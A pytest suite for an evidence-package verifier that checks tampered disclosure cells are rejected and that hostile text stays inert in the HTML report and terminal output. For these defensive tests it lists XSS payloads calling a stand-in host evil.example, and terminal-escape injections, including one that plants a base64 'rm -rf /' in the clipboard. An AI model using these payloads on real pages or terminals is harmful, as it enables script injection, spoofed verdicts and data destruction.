"""H88 to H97: cells shown false, halves left behind, and text that attacks whoever reads it."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from dataclasses import replace
from functools import cache
from html.parser import HTMLParser
from typing import Any

import pytest

from aetheris.evidence import parts
from aetheris.evidence.disclosures import Disclosure
from aetheris.evidence.verify import verify
from tests.evidence.evidence_job import EMAIL, Job, Spec, base, dumps, finished, judged, package, started

Row = dict[str, Any]


@cache
def job() -> Job:
    return base()


@cache
def everything_shown() -> dict[str, bytes]:
    return replace(job(), hidden={}).build().members()


def cells_as(change: Callable[[list[Disclosure]], object]) -> bytes:
    """Other cells, laid out by the writer's rules."""
    cells = job().shown()
    made = change(cells)
    return package(job().members(cells=made if isinstance(made, list) else cells))


def rows_as(change: Callable[[list[Row]], object], **members: bytes) -> bytes:
    """Other rows over the same bodies."""
    rows = [json.loads(line) for line in job().members()["disclosures.jsonl"].splitlines()]
    change(rows)
    return package(job().members() | {"disclosures.jsonl": parts.joined([dumps(r) for r in rows])} | members)


def find(rows: list[Any], seq: int, name: str) -> int:
    return next(i for i, r in enumerate(rows) if (key(r)) == (seq, name))


def key(row: Any) -> tuple[int, str]:
    return (row["seq"], row["name"]) if isinstance(row, dict) else (row.seq, row.name)


def cell(seq: int, name: str, **fields: Any) -> bytes:
    def change(cells: list[Disclosure]) -> None:
        at = find(cells, seq, name)
        cells[at] = replace(cells[at], **fields)

    return cells_as(change)


def row(seq: int, name: str, /, **fields: Any) -> bytes:
    return rows_as(lambda rows: rows[find(rows, seq, name)].update(fields))


def swapped(one: tuple[int, str], other: tuple[int, str], field: str) -> bytes:
    def change(cells: list[Disclosure]) -> None:
        a, b = find(cells, *one), find(cells, *other)
        left, right = getattr(cells[a], field), getattr(cells[b], field)
        cells[a], cells[b] = replace(cells[a], **{field: right}), replace(cells[b], **{field: left})

    return cells_as(change)


def stored(seq: int, name: str) -> tuple[bytes, bytes]:
    found = next(c for c in job().stored if (c.seq, c.name) == (seq, name))
    assert found.salt is not None and found.body is not None  # noqa: PT018
    return found.salt, found.body


def with_member(name: str, data: bytes) -> bytes:
    return package(job().members() | {name: data})


def appended(name: str, data: bytes) -> bytes:
    return with_member(name, job().members()[name] + data)


def report(change: Callable[[bytes], bytes]) -> bytes:
    return with_member("report.html", change(job().members()["report.html"]))


def hidden_artifact_left() -> bytes:
    made = replace(job(), hidden={**job().hidden, (14, "artifact/trace.bin"): "redacted"}).build()
    return package(made.members() | {"artifacts/000002.bin": stored(14, "artifact/trace.bin")[1]})


def under(salt: bytes, specs: list[Spec]) -> bytes:
    """Cells committed under this very salt: every commitment is true."""
    return package(job().with_specs(specs, salt=salt, hidden={}).members())


ARGS, RESULT = (9, "args"), (10, "result")
CASES: dict[str, Callable[[], bytes]] = {
    "H88-salts-swapped": lambda: swapped(ARGS, RESULT, "salt"),
    "H88-one-bit": lambda: cell(*ARGS, salt=bytes([stored(*ARGS)[0][0] ^ 1]) + stored(*ARGS)[0][1:]),
    "H89-bodies-swapped": lambda: swapped(ARGS, RESULT, "body"),
    "H89-bodies-of-one-name-swapped": lambda: swapped((4, "args"), ARGS, "body"),
    "H90-unknown-event": lambda: cells_as(lambda c: c.append(Disclosure(99, "args", "shown", b"\1" * 32, b"1"))),
    "H90-unknown-commit": lambda: cells_as(lambda c: c.append(Disclosure(17, "zz", "shown", b"\1" * 32, b"1"))),
    "H90-unlisted-file": lambda: with_member("cells/000002.jsonl", b'"more"\n'),
    "H90-one-commit-twice": lambda: cells_as(lambda c: c.insert(6, c[5])),
    "H90-not-accounted-for": lambda: cells_as(lambda c: c.pop(6)),
    "H90-redacted-cell-left-out": lambda: cells_as(lambda c: c.pop(find(c, *EMAIL))),
    "H90-out-of-order": lambda: cells_as(lambda c: list(reversed(c))),
    "H91-salt-in-its-row": lambda: row(*EMAIL, salt=stored(*EMAIL)[0].hex()),
    "H91-place-in-its-row": lambda: row(*EMAIL, member="cells/000001.jsonl", offset=0, length=3),
    "H91-body-in-cells": lambda: appended("cells/000001.jsonl", stored(*EMAIL)[1] + b"\n"),
    "H91-body-in-cells-of-its-own": lambda: with_member("cells/000007.jsonl", stored(*EMAIL)[1] + b"\n"),
    "H91-body-in-artifacts": hidden_artifact_left,
    "H91-salt-in-the-report": lambda: report(
        lambda html: html.replace(b"</body>", b"<i>" + stored(*EMAIL)[0].hex().encode() + b"</i></body>")),
    "H91-body-in-the-report": lambda: with_member("report.html", everything_shown()["report.html"]),
    "H92-another-name": lambda: row(*ARGS, name="zrgs"),
    "H92-another-seq": lambda: cells_as(lambda c: [
        replace(d, seq=8) if (d.seq, d.name) == ARGS else d for d in c]),
    "H92-true-cell-in-another-place": lambda: cell(*RESULT, salt=stored(*ARGS)[0], body=stored(*ARGS)[1]),
    "H92-boundary-moved": lambda: cell(3, "args", body=stored(3, "args")[1][:-1]),
    "H92-boundary-moved-into-the-name": lambda: rows_as(
        lambda rows: rows[find(rows, 3, "args")].update(name="ar", length=rows[find(rows, 3, "args")]["length"] + 2)),
    "H93-salt-without-its-body": lambda: row(*ARGS, member=None, offset=None, length=None),
    "H93-body-without-its-salt": lambda: row(*ARGS, salt=None),
    "H93-body-absent": lambda: package({n: d for n, d in job().members().items() if not n.startswith("cells/")}),
    "H94-no-bytes": lambda: row(*ARGS, salt=""),
    "H94-31-bytes": lambda: row(*ARGS, salt="ab" * 31),
    "H94-33-bytes": lambda: row(*ARGS, salt="ab" * 33),
    "H94-a-mebibyte": lambda: row(*ARGS, salt="ab" * 2**20),
    "H94-upper-case": lambda: row(*ARGS, salt=stored(*ARGS)[0].hex().upper()),
    "H94-all-zeros": lambda: under(bytes(32), [replace(job().specs[0], cells={}), job().specs[-1]]),
    "H94-used-by-two-cells": lambda: under(b"\x05" * 32, job().specs),
    "erased-without-a-record": lambda: row(1, "input", audit_seq=None),
    "redacted-with-a-record": lambda: row(*EMAIL, audit_seq=3),
    "missing-for-no-reason": lambda: row(1, "input", state="missing", audit_seq=None),
    "negative-offset": lambda: row(*ARGS, offset=-1),
    "length-beyond-everything": lambda: row(*ARGS, length=2**53 - 1),
    "lengths-that-shift-a-byte": lambda: rows_as(lambda rows: (
        rows[find(rows, 3, "args")].update(length=rows[find(rows, 3, "args")]["length"] + 1))),
}  # fmt: skip


@pytest.mark.parametrize("case", CASES)
def test_a_cell_that_is_not_what_it_says_fails(case: str) -> None:
    """What is shown must be true, and what is hidden must be gone."""
    judged(CASES[case](), "disclosure", 1)


SCRIPTS = (
    "<script>fetch('//evil.example')</script>",
    '"><img src=x onerror=alert(1)>',
    "</script><script>alert(1)</script>",
    "<img src=https://evil.example/pixel.png>",
    "<a href='javascript:alert(1)'>click</a>",
    "</pre></details><iframe src=//evil.example>",
)


class Page(HTMLParser):
    """Collects what a browser would act upon."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.loud: list[tuple[str, str]] = []
        self.text = ""

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.loud += [(tag, name) for name, _ in attrs if name in ("src", "href", "style") or name.startswith("on")]


@pytest.mark.parametrize("text", SCRIPTS)
def test_H95_a_payload_is_inert_text_in_the_report(text: str) -> None:
    """An auditor opens the report on a machine that holds other secrets."""
    body = json.dumps(text).encode()
    specs = list(job().specs)
    specs[5] = replace(specs[5], data={"reason": text}, by=text)
    specs[2] = finished(1, "none", tool=text, cells={"args": body, text.encode().hex(): body, "result": body})
    made = job().with_specs(specs)
    members = made.members()
    page = Page()
    page.feed(members["report.html"].decode())
    assert not page.loud
    assert page.tags.isdisjoint({"script", "img", "a", "iframe", "link", "object", "svg", "form", "base"})
    policy = re.search(r'Content-Security-Policy" content="([^"]*)"', members["report.html"].decode())
    assert policy and policy[1].startswith("default-src 'none'; style-src 'sha256-")  # noqa: PT018
    assert text in page.text
    judged(package(members), "none", 3)


def test_H96_a_report_that_says_verified_is_ignored() -> None:
    """Whoever made the package wrote the report."""
    lie = b"<!doctype html><h1>verified</h1><p>exit 0, by a key you gave"
    judged(with_member("report.html", lie), "authenticity", 3)


ESCAPES = {
    "csi": "\x1b[2K\x1b[1Averified",
    "osc-8": "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "osc-52": "\x1b]52;c;cm0gLXJmIC8=\x07",
    "c1": "\x9b31m",
    "bidi": "\u202everified\u2066",
    "newline": "x\nintegrity      passed",
    "zero-width": "ver\u200bified",
}


@pytest.mark.parametrize("how", ESCAPES)
def test_H97_what_could_move_a_cursor_is_printed_escaped(how: str) -> None:
    """A payload must not be able to draw its own verdict."""
    text = ESCAPES[how]
    specs = list(job().specs)
    specs[2] = finished(1, "none", tool=text, cells={"args": json.dumps(text).encode(), "result": b"1"})
    specs[3] = started(2, "once", tool=text)
    specs[5] = replace(specs[5], data={"reason": text}, by=f"worker/{text}")
    made = replace(job(), tenant=text, specs=specs, hidden={}).build()
    rows = made.rows()
    rows[0]["tool_name"] = text + "!"
    data = package(made.members(rows=rows), tenant=text)
    verdict = verify(data)
    assert verdict.exit_code == 1
    assert {layer.name for layer in verdict.failed} >= {"ledger", "integrity"}
    assert all(c == "\n" or c.isprintable() for c in str(verdict))
    assert str(verdict).count("\nintegrity ") == 1
    assert json.loads(json.dumps(verdict.to_dict()))["tenant"] == text
    page = made.members()["report.html"].decode()
    assert all(c == "\n" or c.isprintable() for c in page)


def test_H97_a_hostile_story_that_is_consistent_passes() -> None:
    """Odd text is not a fault."""
    specs = list(job().specs)
    specs[5] = replace(specs[5], data={"reason": ESCAPES["csi"]}, by=ESCAPES["bidi"])
    judged(package(job().with_specs(specs).members()), "none", 3)


@pytest.mark.parametrize("name", ["\x1b[2Kseal.json", "a\u202eb"])
def test_H97_a_hostile_member_name_is_printed_escaped(name: str) -> None:
    """Names in an archive are a stranger's text too."""
    from tests.evidence.evidence_zip import Entry, zip_of

    made = zip_of(job().members())
    made.entries.append(Entry(name.encode(), b""))
    judged(made.build(), "container", 1)


def test_every_row_of_the_section_has_a_case() -> None:
    """A row without a case is a promise nobody holds."""
    assert {case[:3] for case in CASES if case.startswith("H")} == {f"H{n}" for n in range(88, 95)}
